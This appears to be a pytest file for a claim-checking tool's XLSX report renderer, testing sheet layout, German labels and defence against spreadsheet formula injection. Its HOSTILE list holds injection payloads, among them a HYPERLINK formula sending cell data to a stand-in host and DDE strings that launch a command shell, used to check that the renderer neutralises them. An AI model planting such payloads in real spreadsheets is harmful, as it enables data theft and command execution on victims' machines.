"""The XLSX report: its sheets, and no formula injection from document text."""

from __future__ import annotations

import dataclasses
import io
from collections.abc import Callable

import openpyxl
import pytest

from coop_rules import Report, check_claim
from coop_rules.evidence import Evidence, Extracted
from coop_rules.extraction import DocumentKind, ExtractedDocument
from coop_rules.i18n import translate
from coop_rules.i18n.shown import term
from coop_rules.renderers.xlsx import XlsxRenderer, spreadsheet_text

from ..conftest import FIXTURES

Reports = Callable[[str], Report]
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "＝1+1",
]


def _workbook(data: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(data))


def test_sheets_have_frozen_filtered_headers_and_severity_colours(fixture_report: Reports) -> None:
    # an error, a warning and an info (am02 lost its warning: AM01 now converts the funds)
    report = fixture_report("ac01-seminar-without-photos")
    book = _workbook(XlsxRenderer().report(report))
    assert book.sheetnames == ["Summary", "Findings", "Documents", "Extracted fields"]
    for sheet in book.worksheets:
        assert sheet.freeze_panes == "A2"
        assert sheet.auto_filter.ref and sheet.auto_filter.ref.startswith("A1:")
        assert all(cell.font.bold for cell in sheet[1])
    findings = book["Findings"]
    rows = list(findings.iter_rows(min_row=2, values_only=True))
    assert [r[1] for r in rows] == [f.code for f in report.findings]
    colours = {
        findings.cell(row=i, column=1).value: findings.cell(row=i, column=1).fill.fgColor.rgb
        for i in range(2, findings.max_row + 1)
    }
    assert colours["error"].endswith("A50E0E") and colours["warning"].endswith("7A4A00")
    assert findings.cell(row=2, column=11).hyperlink.target == report.findings[0].docs_url
    summary = dict(book["Summary"].iter_rows(min_row=2, values_only=True))
    assert summary["Verdict"] == "FAIL" and str(summary["Claimed amount"]) == "27077.6"
    fields = list(book["Extracted fields"].iter_rows(min_row=2, values_only=True))
    used = {(r[0], r[-1]) for r in fields if r[3] is True}  # the identifier: the last column
    assert ("rechnung-kreativwerk-RE-2024-0417.pdf", "total") in used


def test_a_german_workbook_names_fields_and_places_in_german_and_keeps_the_identifiers() -> None:
    report = check_claim(FIXTURES / "dt01-late-submission", lang="de")
    book = _workbook(XlsxRenderer().report(report))
    fields = book[translate("xlsx.fields", "de")]
    header = [c.value for c in fields[1]]
    assert header[1] == "Feld" and header[-1] == translate("xlsx.field_key", "de")
    rows = list(fields.iter_rows(min_row=2, values_only=True))
    names = {r[-1]: r[1] for r in rows}
    assert names["vendor"] == term("field", "vendor", "de") != "vendor"
    assert names["issue_date"] == term("field", "issue_date", "de")
    findings = book[translate("xlsx.findings", "de")]
    column = [c.value for c in findings[1]].index(translate("xlsx.evidence", "de"))
    evidence = "\n".join(str(r[column]) for r in findings.iter_rows(min_row=2, values_only=True))
    assert f"claim.yaml {term('input', 'usage_period.end', 'de')} " in evidence
    assert "usage_period.end" not in evidence and "p." not in evidence


@pytest.mark.parametrize("text", HOSTILE)
def test_spreadsheet_text_never_starts_a_formula(text: str) -> None:
    safe = spreadsheet_text(text)
    assert safe[0] not in "=+-@\t\r＝" and safe.endswith(text.lstrip("\t"))


def test_hostile_document_text_never_becomes_a_formula(fixture_report: Reports) -> None:
    base = fixture_report("dt01-late-submission")
    documents, findings = [], []
    for n, text in enumerate(HOSTILE):
        evidence = Evidence(f"{text}.pdf", text=text, page=1, note=text, field=text)
        documents.append(
            ExtractedDocument(
                f"{text}.pdf",
                "application/pdf",
                DocumentKind.INVOICE,
                {"vendor": Extracted(text, evidence), "invoice_number": Extracted(text, evidence)},
            )
        )
        findings.append(
            dataclasses.replace(
                base.findings[0],
                subject=text,
                message=text,
                hint=text,
                values={text: text},
                evidence=(evidence,),
                code=f"DT{n:02d}",
            )
        )
    report = dataclasses.replace(
        base,
        claim_id=HOSTILE[0],
        findings=tuple(findings),
        documents=tuple(documents),
        roles={d.path: HOSTILE[1] for d in documents},
    )
    book = _workbook(XlsxRenderer().report(report))
    seen = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                if isinstance(cell.value, str):
                    seen += any(h.lstrip("\t") in cell.value for h in HOSTILE)
                    assert cell.value[0] not in "=+-@\t\r＝", f"{sheet.title}!{cell.coordinate}"
    assert seen > 30  # the text is all there, only neutralised


def test_control_characters_do_not_break_the_workbook(fixture_report: Reports) -> None:
    base = fixture_report("compliant")
    evidence = Evidence("x.pdf", text="bad\x00\x07text")
    document = ExtractedDocument(
        "x.pdf", "application/pdf", DocumentKind.INVOICE, {"vendor": Extracted("a\x01b", evidence)}
    )
    book = _workbook(XlsxRenderer().report(dataclasses.replace(base, documents=(document,))))
    values = [c for r in book["Extracted fields"].iter_rows(values_only=True) for c in r]
    assert "ab" in values and "badtext" in values
